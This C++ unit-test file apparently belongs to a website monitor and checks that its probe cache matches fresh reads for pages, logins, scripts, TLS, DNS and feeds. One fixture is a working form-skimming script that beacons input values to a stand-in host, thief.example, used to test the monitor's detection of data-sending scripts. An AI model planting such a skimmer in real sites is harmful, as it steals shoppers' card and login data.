// SPDX-License-Identifier: Apache-2.0
#include "probes/memory.h"

#include "probes/http_look.h"
#include "probes/record_type.h"
#include "tests/replies.h"

#include <gtest/gtest.h>

#include <functional>

namespace bw {
namespace {

const Time kNow = parse_time("2025-04-21T12:00:00Z").value_or(Time{});
constexpr Millis kMinute{60'000};

Spec spec_of(const std::string& kind) {
  Spec spec;
  spec.kind = kind;
  spec.url = "https://www.shop.example/";
  spec.host = "www.shop.example";
  spec.feed_provider = "them";
  return spec;
}

std::string shop_page(const std::string& said = "Fresh bread and cheese, every day of the week.") {
  return "<!doctype html><html lang=en><head><title>Shop</title><script src=/app.js></script>"
         "</head><body><h1>Welcome</h1><p>" +
         said + "</p><form action=/buy><input name=card></form></body></html>";
}

Reply from(Reply reply, const std::string& address = "198.51.100.10") {
  reply.address = parse_address(address);
  reply.resolution.addresses = {*reply.address};
  reply.resolution.server = "192.0.2.53";
  return reply;
}

Reply behind(Reply reply, char key) {
  Certificate leaf;
  leaf.issuer = "O=Meridian, CN=Meridian TLS CA 2";
  leaf.key_sha256 = std::string(64, key);
  leaf.fingerprint_sha256 = std::string(64, key);
  leaf.names = {"www.shop.example"};
  leaf.not_before = kNow - std::chrono::days{60};
  leaf.not_after = kNow + std::chrono::days{14};
  reply.chain = Chain{.presented = {leaf}, .why = {}, .version = "TLS 1.3", .cipher = {}};
  return from(std::move(reply));
}

// One look: what is asked gets an answer until there is a finding.
Finding look(const Spec& spec,
             const std::function<Reply(const Ask&)>& world,
             Time now,
             Memory* memory) {
  const auto* kind = find_probe_kind(spec.kind);
  Look look;
  look.memory = memory;
  Step step = kind->begin(spec, look);
  for (int asks = 0; asks < 20 && std::holds_alternative<Ask>(step); ++asks) {
    step = kind->read(spec, look, world(std::get<Ask>(step)), now);
  }
  return std::get<Finding>(std::move(step));
}

void expect_same(const Finding& with, const Finding& without) {
  EXPECT_EQ(print(with.outcome), print(without.outcome));
  EXPECT_EQ(print(with.party), print(without.party));
  EXPECT_EQ(with.note, without.note);
  EXPECT_EQ(with.facts.all(), without.facts.all());
  EXPECT_EQ(with.items, without.items);
}

// Every reply twice in a row and the whole list twice over, a minute apart, with one memory for all
// of it: each finding is that of a look that remembers nothing.
void expect_the_same_as_anew(const Spec& spec, const std::vector<Reply>& replies) {
  Memory memory;
  Time now = kNow;
  for (int round = 0; round < 2; ++round) {
    for (std::size_t i = 0; i < replies.size(); ++i) {
      for (int again = 0; again < 2; ++again, now += kMinute) {
        SCOPED_TRACE(spec.kind + " reply " + std::to_string(i));
        const auto world = [&](const Ask&) { return replies[i]; };
        expect_same(look(spec, world, now, &memory), look(spec, world, now, nullptr));
      }
    }
  }
}

TEST(Memory, OfPagesYieldsWhatReadingAnewDoes) {
  const Header date{.name = "Date", .value = "Mon, 21 Apr 2025 11:59:00 GMT"};
  const Header later{.name = "Date", .value = "Mon, 21 Apr 2025 12:09:00 GMT"};
  auto spec = spec_of("page");
  const std::vector<Reply> replies = {
      behind(answer(200, shop_page(), {date}), 'a'),
      behind(answer(200, shop_page(), {later, {.name = "X-Frame-Options", .value = "DENY"}}), 'a'),
      behind(answer(200, shop_page("Fresh bread and cheese, every day of the weak."), {date}), 'b'),
      from(answer(200, shop_page(), {{.name = "Set-Cookie", .value = "queueit-a=1"}})),
      from(answer(200, shop_page(), {{.name = "Set-Cookie", .value = "cart=1"}}), "198.51.100.11"),
      answer(503, shop_page("Sorry, we are down for planned maintenance and back soon.")),
      answer(503, shop_page(), {{.name = "Retry-After", .value = "Mon, 21 Apr 2025 13:00:00 GMT"}}),
      answer(200, "<h1>Hacked by nobody</h1>"),
      answer(403,
             "access denied reference #18.2f0a3d17.1745230000.1c2f",
             {{.name = "Server", .value = "AkamaiGHost"}}),
      answer(302, "", {{.name = "Location", .value = "https://elsewhere.example/"}}),
      answer(200, ""),
      no_answer()};
  expect_the_same_as_anew(spec, replies);
  spec.expect_text = "week";
  spec.reject_text = {"weak"};
  expect_the_same_as_anew(spec, replies);
}

TEST(Memory, ForgetsNothingThatTheClockOrTheWaitingTells) {
  const auto spec = spec_of("page");
  Memory memory;
  const auto cached = answer(
      503, "reference #97.2f0a3d17.1745230000.1c2f", {{.name = "Server", .value = "AkamaiGHost"}});
  auto quick = answer(503, "azure: try later", {{.name = "X-Azure-Ref", .value = "0abc"}});
  auto slow = quick;
  quick.phases.wait = Micros{20'000};
  slow.phases.wait = Micros{28'000'000};
  const std::vector<std::pair<Reply, Time>> replies = {
      {cached, kNow}, {cached, kNow + std::chrono::hours{5}}, {quick, kNow}, {slow, kNow}};
  for (const auto& [reply, at] : replies) {
    const auto world = [&answer = reply](const Ask&) { return answer; };
    expect_same(look(spec, world, at, &memory), look(spec, world, at, nullptr));
  }
}

TEST(Memory, OfApisYieldsWhatReadingAnewDoes) {
  auto spec = spec_of("api");
  spec.expect_json = {{"status", "ok"}};
  expect_the_same_as_anew(spec,
                          {behind(answer(200, R"({"status":"ok","n":1})"), 'a'),
                           behind(answer(200, R"({"status":"ok","n":2})"), 'a'),
                           behind(answer(500, R"({"status":"ok","n":2})"), 'a'),
                           from(answer(200, R"({"status":"ordering_paused"})")),
                           from(answer(200, R"({"status":"degraded"})")),
                           from(answer(200, shop_page("Back soon. We are sorry."))),
                           no_answer()});
}

TEST(Memory, OfLoginsYieldsWhatReadingAnewDoes) {
  auto spec = spec_of("login");
  spec.username = "canary@shop.example";
  spec.password = "correct horse";
  const std::string form =
      "<title>Sign in</title><form method=post action=/in><input name=username>"
      "<input name=password type=password></form>";
  Memory memory;
  Time now = kNow;
  // The server lets the right password in, then everybody, then nobody, then the first again.
  for (const int mode : {0, 0, 1, 1, 2, 2, 0}) {
    const auto world = [&](const Ask& ask) {
      const auto& http = std::get<HttpAsk>(ask.what);
      if (http.method != "POST") return from(answer(200, form));
      const bool is_right = http.body.contains("correct");
      const bool is_in = mode == 1 || (mode == 0 && is_right);
      const auto session = std::to_string(now.time_since_epoch().count());
      return is_in ? from(answer(200,
                                 "<h1>Your account</h1>",
                                 {{.name = "Set-Cookie", .value = "session=" + session}}))
                   : from(answer(401, "<p>Wrong password for canary@shop.example</p>" + form));
    };
    const auto anew = look(spec, world, now, nullptr);
    const auto outcome = mode == 0   ? Outcome::ok
                         : mode == 1 ? Outcome::login_accepts_wrong
                                     : Outcome::login_rejected;
    EXPECT_EQ(print(anew.outcome), print(outcome));
    expect_same(look(spec, world, now, &memory), anew);
    now += kMinute;
  }
}

TEST(Memory, OfScriptsYieldsWhatReadingAnewDoes) {
  const auto spec = spec_of("scripts");
  Memory memory;
  Time now = kNow;
  const std::string thief =
      "var f=document.querySelectorAll('input');setInterval(function(){"
      "navigator.sendBeacon('https://thief.example/c',btoa(f[0].value))},9)";
  for (const auto& source : {std::string("start(1)"), thief, thief, std::string("start(2)")}) {
    const auto world = [&](const Ask& ask) {
      const bool is_page = std::get<HttpAsk>(ask.what).url == spec.url;
      return from(answer(200, is_page ? shop_page() : source));
    };
    const auto anew = look(spec, world, now, nullptr);
    EXPECT_EQ(anew.facts.get(Fact::script_sends).contains("thief"), source == thief);
    expect_same(look(spec, world, now, &memory), anew);
    now += kMinute;
  }
  EXPECT_EQ(memory.scripts.size(), 3);
}

TEST(Memory, OfConnectionsAndNamesYieldsWhatReadingAnewDoes) {
  auto tls = spec_of("tls");
  tls.warn_before = std::chrono::days{14};  // which comes while the test runs
  Reply renewed = behind({}, 'b');
  renewed.chain->presented[0].not_after += std::chrono::days{90};
  Reply wrong = behind({}, 'a');
  wrong.chain->trouble = wrong.failure = Outcome::tls_wrong_name;
  expect_the_same_as_anew(tls, {behind({}, 'a'), renewed, wrong, Reply{}});

  auto tcp = spec_of("tcp");
  tcp.expect = "SSH";
  Reply banner = from({});
  banner.received = "SSH-2.0-x\r\n";
  expect_the_same_as_anew(tcp, {banner, from({}, "198.51.100.11"), no_answer()});

  auto dns = spec_of("dns");
  dns.expect_records = {{"A", {"198.51.100.0/24"}}};
  const auto named = [](const std::string& address, std::uint32_t ttl) {
    Reply reply;
    DnsReply a;
    a.type = kTypeA;
    a.server = "192.0.2.53";
    a.answer.push_back({.name = "www.shop.example", .type = kTypeA, .ttl = ttl, .data = address});
    DnsReply ns;
    ns.type = kTypeNs;
    ns.authority.push_back({.name = "shop.example",
                            .type = kTypeSoa,
                            .ttl = 60,
                            .data = "ns1.shop.example host.shop.example 7 1 2 3 4"});
    reply.dns = {a, ns};
    return reply;
  };
  auto refused = named("198.51.100.10", 60);
  refused.dns[0].rcode = 5;
  expect_the_same_as_anew(dns,
                          {named("198.51.100.10", 60),
                           named("198.51.100.10", 59),
                           named("203.0.113.10", 60),
                           refused,
                           Reply{}});
}

TEST(Memory, OfFeedsYieldsWhatReadingAnewDoesAsItsItemsAge) {
  const auto spec = spec_of("feed");
  const auto item = [](const std::string& title, const std::string& at) {
    return "<item><title>" + title + "</title><guid>" + title + "</guid><pubDate>" + at +
           "</pubDate></item>";
  };
  const auto rss = [](const std::string& items) {
    return answer(200,
                  "<rss version='2.0'><channel><title>Status</title>" + items + "</channel></rss>",
                  {{.name = "Content-Type", .value = "application/rss+xml"}});
  };
  const std::string dated = item("Resolved: card payments", "Mon, 14 Apr 2025 12:00:00 GMT") +
                            item("Logins are failing", "Mon, 21 Apr 2025 11:00:00 GMT");
  const std::vector<Reply> replies = {rss(dated),
                                      rss(""),
                                      rss(dated + item("Odd", "some day")),
                                      answer(200, "<html>"),
                                      answer(503, "")};
  expect_the_same_as_anew(spec, replies);
  // Items close and are dropped with age, at moments that no reply announces.
  Memory memory;
  std::size_t shapes = 0;
  std::optional<std::vector<FeedItem>> before;
  for (Time now = kNow; now < kNow + std::chrono::days{20}; now += std::chrono::hours{1}) {
    const auto world = [&](const Ask&) { return replies[0]; };
    const auto finding = look(spec, world, now, &memory);
    expect_same(finding, look(spec, world, now, nullptr));
    if (before && *before != finding.items) ++shapes;
    before = finding.items;
  }
  EXPECT_GE(shapes, 2U);
  EXPECT_LE(memory.feeds.size(), 2U);
}

TEST(Moment, SaysForWhenItsAnswersHold) {
  const Moment moment(kNow);
  EXPECT_TRUE(moment.is_after(kNow - kMinute));
  EXPECT_FALSE(moment.is_after(kNow));
  EXPECT_TRUE(moment.is_before(kNow + kMinute));
  EXPECT_FALSE(moment.is_before(kNow - 2 * kMinute));
  for (const Time other : {kNow - kMinute, kNow - kMinute + Millis{1}, kNow, kNow + Millis{1}}) {
    const bool is_same = Moment(other).is_after(kNow - kMinute) && !Moment(other).is_after(kNow) &&
                         Moment(other).is_before(kNow + kMinute);
    EXPECT_EQ(moment.since() <= other && other < moment.until(), is_same);
  }
  EXPECT_EQ(moment.now(), kNow);
  EXPECT_EQ(moment.until(), kNow + Millis{1});
}

struct Read {
  Memory memory;
  Look look;
  Spec spec = spec_of("page");
  Answer operator()(const Reply& reply) {
    look = {};
    look.memory = &memory;
    static_cast<void>(find_probe_kind("page")->begin(spec, look));
    return read_answer(spec, look, reply, kNow);
  }
};

TEST(Memory, HandsOutTheSameReadingOfTheSameReply) {
  Read read;
  const auto reply = answer(200, shop_page(), {{.name = "Date", .value = "now"}});
  const auto again = answer(200, shop_page(), {{.name = "Date", .value = "then"}});
  const auto first = read(reply);
  const auto second = read(again);
  EXPECT_EQ(first.content, second.content);
  EXPECT_EQ(first.head, second.head);
  // Another header is another head, and the body need not be read again for it.
  const auto third = read(answer(200, shop_page(), {{.name = "CF-Ray", .value = "8a1-LHR"}}));
  EXPECT_EQ(first.content, third.content);
  EXPECT_EQ(third.edge.edge, "cloudflare");
}

TEST(Memory, TellsBodiesThatDifferInOneByteApart) {
  const auto page = shop_page();
  Read read;
  const auto original = answer(200, page);
  const auto content = read(original).content;
  for (std::size_t i = 0; i < page.size(); i += 7) {
    auto changed = original;
    changed.http->body[i] = static_cast<char>(changed.http->body[i] ^ 1);
    EXPECT_NE(read(changed).content, content) << i;
    auto longer = original;
    longer.http->body.insert(i, 1, '\0');
    EXPECT_NE(read(longer).content, content) << i;
    static_cast<void>(read(original));
  }
}

TEST(Memory, IsBounded) {
  Read read;
  read.memory = Memory(100'000);
  for (std::size_t i = 0; i < 40; ++i) {
    const auto body = shop_page(std::to_string(i) + std::string(i * 2000, 'x'));
    static_cast<void>(read(answer(200, body, {{.name = "X-" + std::to_string(i), .value = body}})));
    const auto& memory = read.memory;
    EXPECT_LE(memory.bodies.bytes() + memory.contents.bytes(), 100'000U);
    EXPECT_LE(memory.heads.bytes(), Memory::kSmallBytesMax);
    EXPECT_LE(memory.bodies.size(), Memory::kRepliesMax);
  }
  // A page whose parts are many times its size is not kept beyond the bound either.
  std::string deep = "{\"" + std::string(2'000, 'k') + "\":[";
  for (int i = 0; i < 2000; ++i)
    deep += "1,";
  static_cast<void>(read(answer(200, deep + "1]}")));
  EXPECT_LE(read.memory.contents.bytes(), 25'000U);
}

TEST(Recent, KeepsWhatWasUsedLast) {
  Recent<int, int> recent(3, 100);
  const auto get = [&recent](int wanted) {
    return recent.find([wanted](int key) { return key == wanted; });
  };
  for (const int key : {1, 2, 3})
    recent.keep(key, key * 10, 10);
  ASSERT_NE(get(1), nullptr);
  recent.keep(4, 40, 10);
  EXPECT_EQ(get(2), nullptr);
  EXPECT_EQ(*get(1), 10);
  recent.keep(5, 50, 95);
  EXPECT_EQ(get(1), nullptr);
  EXPECT_EQ(*get(5), 50);
  EXPECT_EQ(recent.bytes(), 95U);
  recent.keep(6, 60, 101);
  EXPECT_EQ(get(6), nullptr);
  EXPECT_NE(get(5), nullptr);
}

TEST(FactChanges, SetAndRemoveAsIfSetOneByOne) {
  Facts facts;
  facts.set(Fact::title, "old");
  facts.set(Fact::cnames, "gone");
  facts.set(Fact::address, "kept");
  auto wanted = facts;
  FactChanges changes;
  const auto both = [&](Fact fact, const std::string& value) {
    changes.set(fact, value);
    wanted.set(fact, value);
  };
  both(Fact::cnames, "");
  both(Fact::title, "new");
  both(Fact::status, "200");
  both(Fact::script_targets, "last");
  facts.apply(changes);
  EXPECT_EQ(facts, wanted);
}

}  // namespace
}  // namespace bw
